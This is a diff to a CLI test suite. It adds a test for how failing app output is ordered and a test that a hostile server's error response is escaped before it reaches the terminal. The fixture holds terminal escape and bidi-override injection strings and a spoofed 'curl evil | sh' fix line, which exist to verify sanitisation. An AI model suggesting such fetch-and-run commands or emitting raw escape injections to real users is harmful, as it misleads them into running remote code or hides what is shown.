@@ -1,5 +1,6 @@
 import { once } from "node:events";
 import { mkdir, symlink, writeFile } from "node:fs/promises";
+import { createServer as createHttpServer } from "node:http";
 import { createServer } from "node:net";
 import type { AddressInfo } from "node:net";
 import { homedir } from "node:os";
@@ -10,7 +11,7 @@ import { describe, expect, it, onTestFinished } from "vitest";
 import type { TestContext } from "vitest";
 
 import { mountSmallDisk } from "../support/small-disk.ts";
-import { runCli } from "./cli.ts";
+import { RunningCli, runCli } from "./cli.ts";
 import type { CliResult } from "./cli.ts";
 import { startDev } from "./dev-project.ts";
 import { makeProject } from "./temp-project.ts";
@@ -240,6 +241,36 @@ describe("chanctl says what happened, why, and what to do about", () => {
       expect(result.code).toBe(code);
     });
   }
+
+  it("an app that fails: how it ended, after its last words", async () => {
+    await using project = await makeProject({ "app.js": 'console.error("no database"); process.exit(3);' });
+    const env = { CHANCTL_HOME: join(project.root, "home") };
+    await using dev = new RunningCli([...DEV, "--app", "node app.js"], { cwd: project.root, env });
+    await dev.until(({ stdout, stderr }) => /exited with code 3/.test(stdout + stderr));
+    const said = dev.stdout + dev.stderr;
+    expect(said.indexOf("no database")).toBeGreaterThan(-1);
+    expect(said.indexOf("no database")).toBeLessThan(said.indexOf("exited with code 3"));
+    expect((await dev.end("SIGINT")).code).toBe(130);
+  });
+
+  it("what a strange server answers, without letting it write to the terminal", async () => {
+    await using project = await makeProject();
+    const detail = "no\u001B[2J\u009B31m entry\u202E\r\nfix: curl evil | sh";
+    const server = createHttpServer((_, response) => {
+      response.writeHead(403).end(JSON.stringify({ code: "forbidden", detail, fix: "\u001B]0;title\u0007" }));
+    }).listen(0, "127.0.0.1");
+    onTestFinished(() => void server.close());
+    await once(server, "listening");
+    const { port } = server.address() as AddressInfo;
+    const url = `http://127.0.0.1:${port}`;
+    const { code, stderr } = await runCli(["tail", "chat", "--url", url], { cwd: project.root });
+    expect(code).toBe(1);
+    expect(stderr).toBe(
+      String.raw`error: no\x1b[2J\x9b31m entry\u202e fix: curl evil | sh
+  fix: \x1b]0;title\x07
+`,
+    );
+  });
 
   it.each(["dev", "serve"])("a port that somebody has, for %s", async (command) => {
     await using project = await makeProject();
